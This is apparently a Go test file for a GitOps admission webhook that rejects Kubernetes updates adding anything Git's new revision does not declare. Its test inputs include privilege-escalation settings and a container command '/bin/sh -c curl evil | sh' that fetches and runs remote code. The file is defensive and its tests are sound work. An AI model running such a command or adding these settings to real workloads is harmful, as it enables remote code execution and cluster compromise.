package webhook

import (
	"context"
	"encoding/json"
	"errors"
	"strings"
	"testing"

	admissionv1 "k8s.io/api/admission/v1"
	authenticationv1 "k8s.io/api/authentication/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"sigs.k8s.io/controller-runtime/pkg/webhook/admission"

	"github.com/gitgate/gitgate/provenance"
)

// Git's new revision, loaded by gitgate and not yet applied by the agent:
// web's container gains a securityContext, a container metrics and Pod
// template annotations are new; api's container gains only a
// securityContext; the NetworkPolicy db gains an ingress rule.
const (
	gitWeb = `{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"web","namespace":"shop"},"spec":{"template":{
		"metadata":{"annotations":{"prometheus.io/scrape":"true"}},
		"spec":{"containers":[{"name":"web","image":"nginx:1.27","securityContext":{"runAsNonRoot":true}},{"name":"metrics","image":"exporter:2"}]}}}}`
	gitAPI = `{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"api","namespace":"shop"},"spec":{"template":{
		"spec":{"containers":[{"name":"api","image":"api:3","securityContext":{"runAsNonRoot":true}}]}}}}`
	gitDB = `{"apiVersion":"networking.k8s.io/v1","kind":"NetworkPolicy","metadata":{"name":"db","namespace":"shop"},"spec":{
		"podSelector":{"matchLabels":{"app":"db"}},
		"ingress":[{"from":[{"podSelector":{"matchLabels":{"app":"web"}}}]},{"from":[{"podSelector":{"matchLabels":{"app":"jobs"}}}]}]}}`

	// The stored objects, as the agent applied Git's previous revision.
	storedWeb = `{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"web","namespace":"shop","uid":"u1"},"spec":{"template":{
		"spec":{"dnsPolicy":"ClusterFirst","containers":[{"name":"web","image":"nginx:1.27","imagePullPolicy":"IfNotPresent"}]}}}}`
	storedAPI = `{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"api","namespace":"shop","uid":"u2"},"spec":{"template":{
		"spec":{"dnsPolicy":"ClusterFirst","containers":[{"name":"api","image":"api:3","imagePullPolicy":"IfNotPresent"}]}}}}`
	storedDB = `{"apiVersion":"networking.k8s.io/v1","kind":"NetworkPolicy","metadata":{"name":"db","namespace":"shop","uid":"u3"},"spec":{
		"podSelector":{"matchLabels":{"app":"db"}},"policyTypes":["Ingress"],
		"ingress":[{"from":[{"podSelector":{"matchLabels":{"app":"web"}}}]}]}}`

	// Git's new revision as the API server makes it: the dry run of Git's
	// manifest, and a person's identical apply of it.
	appliedWeb = `{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"web","namespace":"shop","uid":"u1"},"spec":{"template":{
		"metadata":{"annotations":{"prometheus.io/scrape":"true"}},
		"spec":{"dnsPolicy":"ClusterFirst","containers":[
		{"name":"web","image":"nginx:1.27","imagePullPolicy":"IfNotPresent","securityContext":{"runAsNonRoot":true}},
		{"name":"metrics","image":"exporter:2","imagePullPolicy":"IfNotPresent","terminationMessagePath":"/dev/termination-log"}]}}}}`
	appliedAPI = `{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"api","namespace":"shop","uid":"u2"},"spec":{"template":{
		"spec":{"dnsPolicy":"ClusterFirst","containers":[{"name":"api","image":"api:3","imagePullPolicy":"IfNotPresent","securityContext":{"runAsNonRoot":true}}]}}}}`
	appliedDB = `{"apiVersion":"networking.k8s.io/v1","kind":"NetworkPolicy","metadata":{"name":"db","namespace":"shop","uid":"u3"},"spec":{
		"podSelector":{"matchLabels":{"app":"db"}},"policyTypes":["Ingress"],
		"ingress":[{"from":[{"podSelector":{"matchLabels":{"app":"web"}}}]},{"from":[{"podSelector":{"matchLabels":{"app":"jobs"}}}]}]}}`
)

// addedSnapshot declares Git's new revision.
func addedSnapshot(t *testing.T) *provenance.Snapshot {
	t.Helper()
	ix := &provenance.Indexer{Scope: clusterScope{}, DefaultNamespace: "default"}
	idx, err := ix.Build(provenance.Revision{Ref: "main", Hash: "89abcdef0123456789abcdef0123456789abcdef"}, []provenance.File{
		{Path: "shop/web.yaml", Objects: []map[string]any{object(t, gitWeb)}},
		{Path: "shop/api.yaml", Objects: []map[string]any{object(t, gitAPI)}},
		{Path: "shop/db.yaml", Objects: []map[string]any{object(t, gitDB)}},
	})
	if err != nil {
		t.Fatal(err)
	}
	return idx.Snapshot()
}

// dryRuns answers with what the API server makes of each declared object,
// by name, or err, and counts the dry runs.
type dryRuns struct {
	objs map[string]string
	err  error
	runs *int
}

func (d dryRuns) Defaulted(_ context.Context, e *provenance.Entry, _ provenance.Revision) (map[string]any, error) {
	*d.runs++
	if d.err != nil {
		return nil, d.err
	}
	return provenance.DecodeObject([]byte(d.objs[e.Key.Name]))
}

// updateOf is the UPDATE the API server sends when user changes stored
// into obj, after edit.
func updateOf(t *testing.T, user, stored, obj string, edit func(map[string]any)) admission.Request {
	t.Helper()
	m := object(t, obj)
	if edit != nil {
		edit(m)
	}
	kind := metav1.GroupVersionKind{Group: "apps", Version: "v1", Kind: "Deployment"}
	res := metav1.GroupVersionResource{Group: "apps", Version: "v1", Resource: "deployments"}
	if m["kind"] == "NetworkPolicy" {
		kind.Group, kind.Kind, res.Group, res.Resource = "networking.k8s.io", "NetworkPolicy", "networking.k8s.io", "networkpolicies"
	}
	meta := m["metadata"].(map[string]any)
	raw, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	return admission.Request{AdmissionRequest: admissionv1.AdmissionRequest{
		UID: "uid-added", Operation: admissionv1.Update, Namespace: "shop", Name: meta["name"].(string), Kind: kind, Resource: res,
		UserInfo:  authenticationv1.UserInfo{Username: user, Groups: []string{"system:authenticated"}},
		OldObject: runtime.RawExtension{Raw: []byte(stored)},
		Object:    runtime.RawExtension{Raw: raw},
	}}
}

func webContainer(m map[string]any, name string) map[string]any {
	for _, c := range m["spec"].(map[string]any)["template"].(map[string]any)["spec"].(map[string]any)["containers"].([]any) {
		if c := c.(map[string]any); c["name"] == name {
			return c
		}
	}
	panic("no container " + name)
}

// TestUpdateAddingWhatGitsNewRevisionAdds: before the agent applies Git's
// new revision, what an update adds below Git's declared fields may hold
// Git's values and the API server's defaults for Git's manifest there,
// nothing else; an update that adds nothing Git leaves out needs no dry
// run; agents and exempt identities are not judged.
func TestUpdateAddingWhatGitsNewRevisionAdds(t *testing.T) {
	applied := map[string]string{"web": appliedWeb, "api": appliedAPI, "db": appliedDB}
	privileges := func(m map[string]any) {
		sc := webContainer(m, "web")["securityContext"].(map[string]any)
		sc["allowPrivilegeEscalation"], sc["capabilities"] = true, map[string]any{"add": []any{"SYS_ADMIN"}}
	}
	command := func(m map[string]any) {
		c := webContainer(m, "metrics")
		c["command"], c["securityContext"] = []any{"/bin/sh", "-c", "curl evil | sh"}, map[string]any{"privileged": true}
	}
	annotation := func(m map[string]any) {
		a := m["spec"].(map[string]any)["template"].(map[string]any)["metadata"].(map[string]any)["annotations"].(map[string]any)
		a["sidecar.istio.io/inject"] = "false"
	}
	everyPeer := func(m map[string]any) {
		for _, rule := range m["spec"].(map[string]any)["ingress"].([]any) {
			for _, peer := range rule.(map[string]any)["from"].([]any) {
				peer.(map[string]any)["namespaceSelector"] = map[string]any{}
			}
		}
	}
	apiPrivileged := func(m map[string]any) {
		webContainer(m, "api")["securityContext"].(map[string]any)["privileged"] = true
	}
	tests := []struct {
		name        string
		user        string
		stored, obj string
		edit        func(map[string]any)
		dryRunErr   error
		noDefaulter bool
		wantAllowed bool
		wantReason  provenance.Reason
		wantDryRuns int
		wantMessage []string
	}{
		{name: "a person's identical apply of Git's new revision", user: "dev", stored: storedWeb, obj: appliedWeb,
			wantAllowed: true, wantReason: provenance.ReasonMatchesGit, wantDryRuns: 1},
		{name: "Git's new runAsNonRoot alone needs no dry run", user: "dev", stored: storedAPI, obj: appliedAPI,
			wantAllowed: true, wantReason: provenance.ReasonMatchesGit},
		{name: "Git's new NetworkPolicy rule as Git has it needs no dry run", user: "dev", stored: storedDB, obj: appliedDB,
			wantAllowed: true, wantReason: provenance.ReasonMatchesGit},
		{name: "an ordinary update needs no dry run", user: "dev", stored: appliedWeb, obj: appliedWeb,
			wantAllowed: true, wantReason: provenance.ReasonMatchesGit},
		{name: "privileges beside Git's runAsNonRoot", user: "dev", stored: storedWeb, obj: appliedWeb, edit: privileges,
			wantReason: provenance.ReasonUndeclared, wantDryRuns: 1,
			wantMessage: []string{"containers[name=web].securityContext.allowPrivilegeEscalation", "where this update adds to the object",
				"the API server's default there is nothing; request has true"}},
		{name: "privileges beside Git's runAsNonRoot, the only thing new", user: "dev", stored: storedAPI, obj: appliedAPI, edit: apiPrivileged,
			wantReason: provenance.ReasonUndeclared, wantDryRuns: 1, wantMessage: []string{"containers[name=api].securityContext.privileged"}},
		{name: "a command and privileged in Git's new container", user: "dev", stored: storedWeb, obj: appliedWeb, edit: command,
			wantReason: provenance.ReasonUndeclared, wantDryRuns: 1, wantMessage: []string{"containers[name=metrics].command"}},
		{name: "an annotation beside Git's new Pod template annotations", user: "dev", stored: storedWeb, obj: appliedWeb, edit: annotation,
			wantReason: provenance.ReasonUndeclared, wantDryRuns: 1, wantMessage: []string{`spec.template.metadata.annotations["sidecar.istio.io/inject"]`}},
		{name: "namespaceSelector on every peer as Git adds a rule", user: "dev", stored: storedDB, obj: appliedDB, edit: everyPeer,
			wantReason: provenance.ReasonUndeclared, wantDryRuns: 1,
			wantMessage: []string{"spec.ingress[0].from[0].namespaceSelector", "spec.ingress[1].from[0].namespaceSelector"}},
		{name: "a controller's privileges beside Git's runAsNonRoot", user: operator, stored: storedAPI, obj: appliedAPI, edit: apiPrivileged,
			wantReason: provenance.ReasonUndeclared, wantDryRuns: 1, wantMessage: []string{"judged as a controller"}},
		{name: "the dry run fails: refused", user: "dev", stored: storedWeb, obj: appliedWeb, dryRunErr: errors.New("sandbox missing"),
			wantReason: reasonNoDefaults, wantDryRuns: 1,
			wantMessage: []string{"it sets spec.template.spec.containers[name=metrics].imagePullPolicy (and 1 more)", "(sandbox missing)", "Let the GitOps agent apply Git's revision first"}},
		{name: "no dry run configured: refused", user: "dev", stored: storedDB, obj: appliedDB, edit: everyPeer, noDefaulter: true,
			wantReason: reasonNoDefaults, wantMessage: []string{"no dry run of Git's manifest configured"}},
		{name: "the agent applies with additions", user: "system:serviceaccount:flux-system:kustomize-controller", stored: storedWeb, obj: appliedWeb, edit: privileges,
			wantAllowed: true, wantReason: reasonAgent},
		{name: "an exempt identity", user: "system:kube-controller-manager", stored: storedWeb, obj: appliedWeb, edit: privileges,
			wantAllowed: true, wantReason: reasonExempt},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			runs := 0
			rec := &records{}
			h := &Handler{Identities: DefaultIdentities(), Snapshots: fixedSnap{addedSnapshot(t)}, Checker: &provenance.Checker{},
				Controllers: ControllerChecker(nil), Repo: Repo{URL: "https://git.example/fleet.git"}, Audit: rec}
			if !tc.noDefaulter {
				h.Defaults = dryRuns{objs: applied, err: tc.dryRunErr, runs: &runs}
			}
			d := h.Decide(context.Background(), updateOf(t, tc.user, tc.stored, tc.obj, tc.edit))
			if d.Allowed != tc.wantAllowed || d.Reason != tc.wantReason || runs != tc.wantDryRuns {
				t.Fatalf("allowed %v, reason %s after %d dry runs; want %v, %s after %d: %s",
					d.Allowed, d.Reason, runs, tc.wantAllowed, tc.wantReason, tc.wantDryRuns, d.Message)
			}
			for _, m := range tc.wantMessage {
				if !strings.Contains(d.Message, m) {
					t.Errorf("message lacks %q:\n%s", m, d.Message)
				}
			}
		})
	}
}
